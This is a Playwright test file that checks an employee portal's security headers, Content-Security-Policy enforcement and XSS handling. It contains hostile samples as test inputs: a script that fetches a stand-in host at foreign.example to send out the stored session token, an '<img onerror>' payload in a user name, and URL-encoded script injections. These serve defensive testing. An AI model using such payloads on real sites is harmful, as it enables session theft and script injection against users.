import { accounts, register } from './support/people.js';
import { apiTest, expect, test } from './support/portalTest.js';
import { card, header, keptToken } from './support/shell.js';
import { submitSignIn } from './support/signInPage.js';

const pages = ['/', '/login', '/home', '/explorer', '/api/docs/', '/no/such/page'];
const writesStyles = ['/explorer', '/api/docs/'];

apiTest(
  'every page has a strict policy of its own, and no answer sets a cookie',
  { tag: '@apart' },
  async ({ api }) => {
    const token = await api.signIn(accounts.employee.email, accounts.employee.password);
    const nonces = new Set<string>();
    for (const path of pages) {
      const { headers } = await fetchPage(api.origin, path);
      const policy = headers.get('content-security-policy') ?? '';
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("script-src 'self';");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).not.toMatch(/unsafe-eval|https?:\/\/\*|\s\*/);
      // The editor of the explorer and the REST reference write styles of their own.
      if (writesStyles.includes(path))
        expect(policy.replace("style-src 'self' 'unsafe-inline'", '')).not.toContain('unsafe');
      else nonces.add(/style-src 'self' 'nonce-([^']+)';/.exec(policy)?.[1] ?? '');
      expect(Object.fromEntries(headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'referrer-policy': 'no-referrer',
      });
      expect(headers.getSetCookie()).toEqual([]);
    }
    expect(nonces.size).toBe(pages.length - writesStyles.length);

    const answers = [
      await api.post(null, '/api/auth/login/', { email: accounts.hr.email, password: accounts.hr.password }),
      await api.post(null, '/api/auth/login/', { email: accounts.hr.email, password: '' }),
      await api.get(token, '/api/auth/profile/'),
      await api.get(null, '/api/auth/profile/'),
      await api.post(token, '/graphql', { query: '{ me { id } }' }),
    ];
    for (const { headers } of answers) {
      expect(headers.getSetCookie()).toEqual([]);
      expect(headers.get('cache-control')).toBe('no-store');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  },
);

const fetchPage = (origin: string, path: string) => fetch(new URL(path, origin), { redirect: 'manual' });

test.describe('on a page of a signed-in person', () => {
  test.use({ account: 'employee' });

  test('an injected script does not run', async ({ page, watch }) => {
    watch.allow(/Content Security Policy/);
    await page.goto('/home');
    await expect(card(page, 'Employee Portal')).toBeVisible();
    const refused = page.waitForEvent('console', (message) =>
      message.text().includes('Content Security Policy'),
    );

    await page.evaluate(`
      const script = document.createElement('script');
      script.textContent = 'window.injected = "inline"';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<button id="trap" onclick="window.injected = \\'handler\\'">Trap</button>');
      document.getElementById('trap').click();
    `);
    await refused;
    expect(await page.evaluate('window.injected')).toBeUndefined();
  });

  test('a script, a call and a frame of another origin are blocked before they are sent', async ({
    page,
    watch,
    context,
  }) => {
    watch.allow(/Content Security Policy|violates the document|asked a foreign host/);
    // Whatever should get through after all ends here and does not reach a real network.
    const reached: string[] = [];
    await context.route(/foreign\.example/, (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto('/home');
    await expect(card(page, 'Employee Portal')).toBeVisible();

    const outcome = await page.evaluate(`(async () => {
      const script = document.createElement('script');
      script.src = 'https://foreign.example/x.js';
      const scriptFailed = new Promise((done) => { script.onerror = () => done('stopped'); script.onload = () => done('loaded'); });
      document.body.append(script);
      const called = fetch('https://foreign.example/steal?token=' + localStorage.getItem('portal.token')).then(() => 'sent', () => 'stopped');
      const picture = new Image();
      const seen = new Promise((done) => { picture.onerror = () => done('stopped'); picture.onload = () => done('loaded'); });
      picture.src = 'https://foreign.example/pixel.png';
      return Promise.all([scriptFailed, called, seen]);
    })()`);
    expect(outcome).toEqual(['stopped', 'stopped', 'stopped']);
    expect(reached).toEqual([]);
  });
});

test('markup in a name is shown as text', async ({ page, api }) => {
  const person = await register(api, {
    firstName: '<img src=x onerror=alert(1)>',
    lastName: '</script><b>Bold</b>',
  });
  await page.goto('/login');
  await submitSignIn(page, person);

  await expect(page.getByText(`Welcome, ${person.firstName}.`)).toBeVisible();
  await expect(page.locator('img[src="x"], main b')).toHaveCount(0);
});

test('an address full of markup only leads to a page of the portal', async ({ page }) => {
  await page.goto('/login?reset=%22%3E%3Cscript%3Ewindow.injected%3D1%3C%2Fscript%3E');
  await expect(page.getByRole('heading', { name: 'Choose a new password' })).toBeVisible();
  await page.goto('/%3Cscript%3Ewindow.injected%3D1%3C%2Fscript%3E');
  await expect(page).toHaveURL('/');
  await expect(page.getByRole('region', { name: 'About' })).toBeVisible();
  expect(await page.evaluate('window.injected')).toBeUndefined();
});

test('the token is never in a URL', async ({ page }) => {
  const addresses: string[] = [];
  page.on('request', (request) => addresses.push(request.url()));
  await page.goto('/login');
  await submitSignIn(page, accounts.employee);
  await expect(header(page)).toContainText(accounts.employee.fullName);

  const secrets = [(await keptToken(page)) ?? '-', accounts.employee.password];
  expect(
    addresses.filter((address) => secrets.some((secret) => decodeURIComponent(address).includes(secret))),
  ).toEqual([]);
});
